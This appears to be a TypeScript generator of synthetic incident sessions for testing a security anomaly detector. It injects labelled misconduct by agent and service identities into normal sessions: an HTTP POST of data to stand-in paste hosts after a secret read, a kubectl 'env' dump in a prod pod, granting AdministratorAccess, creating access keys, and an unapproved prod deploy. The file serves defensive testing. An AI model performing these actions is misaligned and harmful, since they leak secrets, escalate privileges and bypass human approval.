import type { Rng } from './rng.js';
import {
  argoStatus,
  argoSync,
  checkPolls,
  codingAgentSession,
  dataPipelineSession,
  legacySyncSession,
  newRelease,
  releaseCommit,
  releasePush,
  supportSession,
} from './normal-sessions.js';
import type { DemoIdentityId } from './personas.js';
import { res, step, type Script, type ScriptCtx, type Step } from './session-script.js';
import { INCIDENT_KINDS, type IncidentKind } from './types.js';

/**
 * Injected incidents: a plausible session of some identity with one step that should not be
 * there (a tool it never uses, egress after a secret read, a prod deploy nobody approved, any
 * activity of a revoked identity). That step carries the incident kind as ground truth.
 */

interface IncidentVariant {
  kind: IncidentKind;
  identity: DemoIdentityId;
  build: Script;
}

/** Inserts `extra` somewhere after the first step, where it blends into the session. */
function inject(steps: Step[], extra: Step, rng: Rng): Step[] {
  const at = rng.int(1, steps.length);
  return [...steps.slice(0, at), extra, ...steps.slice(at)];
}

const EXFIL_HOSTS = [
  'paste.demo-drop.net',
  'hastebin-mirror.example.org',
  'files.tmpshare-demo.io',
  'gist-cache.example.net',
];

function exfiltration(ctx: ScriptCtx): Step {
  const base = ctx.rng.pick(EXFIL_HOSTS);
  const host = ctx.rng.chance(0.5) ? `${ctx.rng.hex(6)}.${base}` : base;
  const url = `https://${host}/api/v1/documents`;
  return step('http.post', ctx.gap(), {
    resource: res('url', url),
    target_domain: host,
    args: {
      url,
      method: 'POST',
      content_type: 'text/plain',
      body_bytes: ctx.rng.int(2_000, 200_000),
      user_agent: 'python-requests/2.32.3',
    },
    incident: 'new_egress_after_secret_read',
  });
}

const NEW_TOOL_STEPS = {
  'support-agent': (ctx: ScriptCtx): Step =>
    step('iam.create_access_key', ctx.gap(), {
      resource: res('iam_user', 'arn:aws:iam::123456789012:user/support-agent'),
      target_domain: 'iam.amazonaws.com',
      args: { UserName: 'support-agent', reason: 'need programmatic access to fetch attachments' },
      incident: 'new_tool',
    }),
  'coding-agent': (ctx: ScriptCtx): Step =>
    step('kubectl.exec', ctx.gap(), {
      resource: res('k8s_pod', `prod/api-${ctx.rng.hex(10)}`),
      target_domain: 'k8s.prod.internal.acme.dev',
      args: { namespace: 'prod', container: 'api', command: ['sh', '-c', 'env | sort'], tty: false },
      incident: 'new_tool',
    }),
  'data-pipeline': (ctx: ScriptCtx): Step =>
    step('iam.attach_role_policy', ctx.gap(), {
      resource: res('iam_role', 'arn:aws:iam::123456789012:role/data-pipeline'),
      target_domain: 'iam.amazonaws.com',
      args: { RoleName: 'data-pipeline', PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
      incident: 'new_tool',
    }),
} as const;

/** commit → push → prod deploy with no approval at all. */
function unapprovedProdDeploy(ctx: ScriptCtx): Step[] {
  const r = newRelease(ctx);
  return [
    releaseCommit(ctx, r),
    releasePush(ctx, r),
    ...checkPolls(ctx, r, 0, 1),
    { ...argoSync(ctx, r, 'prod'), incident: 'deploy_without_approval' },
    argoStatus(ctx, r, 'prod'),
  ];
}

const INCIDENT_VARIANTS: readonly IncidentVariant[] = [
  {
    kind: 'new_tool',
    identity: 'support-agent',
    build: (ctx) => inject(supportSession(ctx), NEW_TOOL_STEPS['support-agent'](ctx), ctx.rng),
  },
  {
    kind: 'new_tool',
    identity: 'coding-agent',
    build: (ctx) => inject(codingAgentSession(ctx), NEW_TOOL_STEPS['coding-agent'](ctx), ctx.rng),
  },
  {
    kind: 'new_tool',
    identity: 'data-pipeline',
    build: (ctx) => inject(dataPipelineSession(ctx), NEW_TOOL_STEPS['data-pipeline'](ctx), ctx.rng),
  },
  // The pipeline's sessions open with its secret read, so any later position follows it.
  {
    kind: 'new_egress_after_secret_read',
    identity: 'data-pipeline',
    build: (ctx) => inject(dataPipelineSession(ctx), exfiltration(ctx), ctx.rng),
  },
  { kind: 'deploy_without_approval', identity: 'release-bot', build: unapprovedProdDeploy },
  {
    kind: 'revoked_identity_activity',
    identity: 'legacy-sync',
    build: (ctx) =>
      legacySyncSession(ctx).map((s, i) => (i === 0 ? { ...s, incident: 'revoked_identity_activity' } : s)),
  },
];

const VARIANTS_BY_KIND: Readonly<Record<IncidentKind, readonly IncidentVariant[]>> = {
  new_tool: INCIDENT_VARIANTS.filter((v) => v.kind === 'new_tool'),
  new_egress_after_secret_read: INCIDENT_VARIANTS.filter((v) => v.kind === 'new_egress_after_secret_read'),
  deploy_without_approval: INCIDENT_VARIANTS.filter((v) => v.kind === 'deploy_without_approval'),
  revoked_identity_activity: INCIDENT_VARIANTS.filter((v) => v.kind === 'revoked_identity_activity'),
};

/**
 * A random incident to replace a session with. Kinds are equally likely, however many variants
 * each has; then one variant of the drawn kind.
 */
export function pickIncident(rng: Rng): IncidentVariant {
  return rng.pick(VARIANTS_BY_KIND[rng.pick(INCIDENT_KINDS)]);
}
